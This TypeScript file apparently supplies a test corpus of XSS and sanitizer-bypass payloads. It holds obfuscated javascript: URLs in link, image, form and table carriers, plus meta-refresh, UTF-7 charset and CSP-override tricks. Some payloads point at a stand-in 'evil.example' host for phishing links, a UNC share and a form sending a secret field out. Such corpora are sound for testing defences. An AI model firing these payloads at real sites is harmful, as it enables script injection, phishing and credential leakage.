import type { Family } from '../payloads.ts'

/** One address that would run a script, in the disguises that URL parsers see through. */
const DISGUISES = [
  'javascript:{{JS}}',
  'JaVaScRiPt:{{JS}}',
  ' javascript:{{JS}}',
  '&#1;javascript:{{JS}}',
  'java&#9;script:{{JS}}',
  'java&Tab;script:{{JS}}',
  'java&#10;script:{{JS}}',
  'java\nscript:{{JS}}',
  'javascript&colon;{{JS}}',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{{JS}}',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;{{JS}}',
  'javascript://%0a{{JS}}',
  'javascript:/*--></title></style>*/{{JS}}',
  'vbscript:msgbox(1)',
  'data:text/html,<script>{{JS}}</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'feed:javascript:{{JS}}',
  'view-source:javascript:{{JS}}',
  'blob:javascript:{{JS}}',
  'file:///etc/passwd',
  'intent://x#Intent;scheme=http;end',
  'ms-word:ofe|u|{{URL}}',
  'search-ms:query=x&crumb=location:{{URL}}',
]

const CARRIERS: Record<string, (target: string) => string> = {
  'link-a': (target) => `<a href="${target}">click</a>`,
  'link-area': (target) =>
    `<map name="m"><area shape="default" href="${target}"></map><img usemap="#m" width="9" height="9">`,
  'link-img': (target) => `<img src="${target}">`,
  'link-form': (target) => `<form action="${target}"><button>x</button></form>`,
  'link-formaction': (target) => `<form><button formaction="${target}">x</button></form>`,
  'link-background': (target) => `<table background="${target}"><tr><td background="${target}">x`,
}

export const linkPayloads: Family = {
  ...Object.fromEntries(
    Object.entries(CARRIERS).map(([family, carry]) => [family, DISGUISES.map(carry)]),
  ),
  link: [
    '<a href="javascript:{{JS}}" target="_self">x</a>',
    '<a ping="{{URL}}" href="https://example.com/">x</a>',
    '<a href="https://bank.example@evil.example/">https://bank.example/</a>',
    '<a href="mailto:a@example.com?attach=/etc/passwd">x</a>',
    '<a target="_top" href="{{GO}}">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<a href="\\\\evil.example\\share">x</a>',
    '<a xlink:href="javascript:{{JS}}">x</a>',
    '<a href="x" href="javascript:{{JS}}">x</a>',
    '<a href=javascript:{{JS}}//>x</a>',
    "<a href='javascript:{{JS}}'>x</a>",
    '<form action="javascript:{{JS}}"><input type=submit autofocus></form>',
    '<form id=f></form><button form=f formaction="javascript:{{JS}}">x</button>',
    '<form action="{{GO}}"><input name=q value=secret><input type=image src="{{URL}}"></form>',
    '<isindex formaction="javascript:{{JS}}" type=submit>',
    '<base href="javascript:/a/-{{JS}}//"><a href="#">x</a>',
    '<base href="{{URL}}/"><img src="picture.png"><a href="page">x</a>',
    '<math href="javascript:{{JS}}"><mi>x</mi></math>',
    '<math><maction actiontype="statusline#http://x" xlink:href="javascript:{{JS}}">x</maction></math>',
  ],
  refresh: [
    '<meta http-equiv="refresh" content="0;url={{GO}}">',
    "<meta http-equiv='REFRESH' content='0; {{GO}}'>",
    '<meta http-equiv="refresh" content="0;url=javascript:{{JS}}">',
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>{{JS}}</script>">',
    '<p>text</p><meta http-equiv=refresh content=0;{{GO}}?p>',
    '<svg><foreignObject><meta http-equiv="refresh" content="0;url={{GO}}?s"></foreignObject></svg>',
  ],
  meta: [
    '<meta http-equiv="Set-Cookie" content="a=b">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * \'unsafe-inline\'"><script>{{JS}}</script>',
    '<meta charset="utf-7">+ADw-script+AD4-{{JS}}+ADw-/script+AD4-',
    '<meta http-equiv="content-type" content="text/html; charset=iso-2022-jp">\u001b$B<img alt="\u001b(B" src=x onerror="{{JS}}">',
    '<meta name="referrer" content="unsafe-url"><img src="{{URL}}">',
    '<meta http-equiv="Link" content="<{{URL}}>; rel=preload; as=image">',
    '<title></title><meta http-equiv="x-dns-prefetch-control" content="on"><img src="{{URL}}">',
  ],
}
